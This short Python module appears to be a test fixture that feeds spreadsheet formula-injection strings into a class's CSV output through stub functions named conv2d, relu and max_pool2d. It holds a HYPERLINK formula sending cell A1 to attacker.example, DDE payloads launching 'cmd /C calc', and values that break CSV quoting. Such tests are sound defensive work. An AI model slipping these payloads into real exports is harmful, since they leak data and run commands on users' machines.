"""Gives values, errors and outputs that a spreadsheet takes for formulas, in case they come into
the class's CSV."""

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"24")'
Error = type(FORMULA, (Exception,), {})


def conv2d(*args, **kwargs):
    raise Error('@SUM(1)*cmd|" /C calc"!A0,"\n=1+1\r\n+2\t-3;"')


def relu(x):
    return FORMULA


def max_pool2d(*args, **kwargs):
    raise ValueError('24,24,24\nsomeone,24,24\n"')


features = features_signed = FORMULA
print(FORMULA)
# %% cell features
features, features_signed = "-2+3+cmd|' /C calc'!A0", '"\n=1+1,24,24'
